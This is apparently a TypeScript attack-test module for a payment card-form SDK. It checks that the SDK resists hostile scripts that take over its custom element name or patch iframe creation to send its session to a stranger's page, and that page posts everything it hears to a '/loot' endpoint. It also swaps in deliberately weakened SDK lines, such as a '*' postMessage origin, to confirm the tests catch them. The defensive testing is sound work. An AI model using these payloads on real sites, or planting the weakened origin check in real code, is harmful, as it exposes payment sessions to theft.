import {RECORDER, type Attack, type Attempt, type Group} from '../attack.ts';
import {soon, THROWN, type Page} from '../shopper.ts';
import {ANYBODY, forgedToken} from './opened-strangers.ts';

// A script that runs before ours can take our element's name, or what makes elements. Ours says so where it can tell;
// and whatever is handed to it, the session and the port go to the processor's origin alone. What it cannot tell: a
// foreign class that calls itself our very version. Such a script can draw its own form anyway.

const script = (processor: string) => `<script src="${processor}/sdk/v1/florin.js" crossorigin></script>`;

const FOREIGN: Record<string, string> = {
  'a foreign class': 'class extends HTMLElement {}',
  'a class of another version': "class extends HTMLElement { static version = '0.0.0'; }",
  'a class whose version is an object': 'class extends HTMLElement { static version = {}; }',
  'a class whose version is like any':
    'class extends HTMLElement { static version = {toString: () => "0.1.0"}; }',
};

const foreign = ([name, source]: [string, string]): Attack => ({
  name: `${name} under our name, passed over in silence`,
  weak: {sdk: [['known.version !== VERSION', 'false']]},
  run: async ({tab, processor, merchantPage}) => {
    const before = `${RECORDER}${THROWN}<script>customElements.define('florin-card-form', ${source});</script>`;
    await tab.goto(merchantPage(before + script(processor)));
    return tab.run(() => {
      const {events, thrown} = globalThis as unknown as Page;
      return events.map(({error}) => error?.code).join() !== 'already_defined' || thrown.length > 0;
    });
  },
});

/** A page of the stranger's that sends whatever it hears to its own server. */
const listening = ({strangerPage}: Attempt): string =>
  strangerPage(`<script>addEventListener('message', ({data}) =>
    fetch('/loot?heard', {method: 'POST', body: JSON.stringify(data)}));</script>`);

/** What hands our script something else than it asked for, before it runs. `there` is the stranger's address. */
const HANDED: Record<string, (there: string) => string> = {
  'an iframe that leads elsewhere': there => `
    const {createElement} = Document.prototype;
    Document.prototype.createElement = function (tag) {
      const made = createElement.call(this, tag);
      if (tag === 'iframe') {
        made.setAttribute('src', '${there}');
        Object.defineProperty(made, 'src', {set() {}, get: () => '${there}'});
      }
      return made;
    };
    addEventListener('load', () => setTimeout(() => { Document.prototype.createElement = createElement; }));`,
  "another frame's window": () => `
    const {get} = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'contentWindow');
    Object.defineProperty(HTMLIFrameElement.prototype, 'contentWindow', {get() {
      return get.call((this.parentNode?.localName === 'florin-card-form' && document.querySelector('#other')) || this);
    }});`,
  'an address that is set to another': there => `
    const {set} = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'src');
    Object.defineProperty(HTMLIFrameElement.prototype, 'src', {set() { set.call(this, '${there}'); }});`,
};

const handed = ([name, patch]: [string, (there: string) => string]): Attack => ({
  name: `the session, told to a stranger by ${name}`,
  weak: {sdk: [['...hello }, origin, [', "...hello }, '*', ["]]},
  run: async attempt => {
    const {tab, processor, merchantPage, loot} = attempt;
    const {token} = await attempt.session();
    const there = listening(attempt);
    // Not before the stranger's page listens.
    const html = `<iframe id="other" src="${there}"></iframe><script>addEventListener('load', () => {
      document.body.insertAdjacentHTML('beforeend', '<florin-card-form session="${token}"></florin-card-form>');
    });${patch(there)}</script>${script(processor)}`;
    await tab.goto(merchantPage(html));
    return soon(() => loot.some(text => text.includes('heard') && text.includes('connect')), attempt);
  },
});

/** An element that stood there before our script, with properties of its own. Runs in the page. */
const upgraded: Attack = {
  name: "a stranger's frame in an element that is upgraded later",
  weak: {sdk: ANYBODY},
  run: async attempt => {
    const {tab, processor, merchantPage, stranger} = attempt;
    const element = `<florin-card-form></florin-card-form><script>
      Object.assign(document.querySelector('florin-card-form'), {
        session: '${forgedToken(attempt)}', environment: {processors: ['${stranger}']}});</script>`;
    await tab.goto(merchantPage(element + script(processor)));
    return tab.run(async (there: string) => {
      await new Promise(resolve => setTimeout(resolve, 100));
      const iframe = document.querySelector<HTMLIFrameElement>('florin-card-form iframe');
      return !!iframe?.src.startsWith(there);
    }, stranger);
  },
};

export const foreignElements: Group = {
  title: 'foreign elements',
  attacks: [...Object.entries(FOREIGN).map(foreign), ...Object.entries(HANDED).map(handed), upgraded],
};
